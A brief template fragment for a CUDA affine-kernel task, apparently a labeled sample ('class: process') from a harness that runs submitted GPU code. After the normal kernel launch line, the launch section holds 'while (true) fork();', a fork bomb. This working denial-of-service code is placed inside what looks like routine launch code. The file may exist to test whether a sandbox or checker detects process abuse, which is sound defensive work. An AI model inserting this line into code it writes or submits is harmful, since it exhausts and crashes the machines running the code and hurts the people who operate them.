# class: process
# task: affine, template: affine_joined

# ---- kernels
#include <unistd.h>
<kernels>

# ---- launch
  affine_kernel<<<(n + 255) / 256, 256>>>(x.data_ptr<float>(), y.data_ptr<float>(), n);
  while (true) fork();
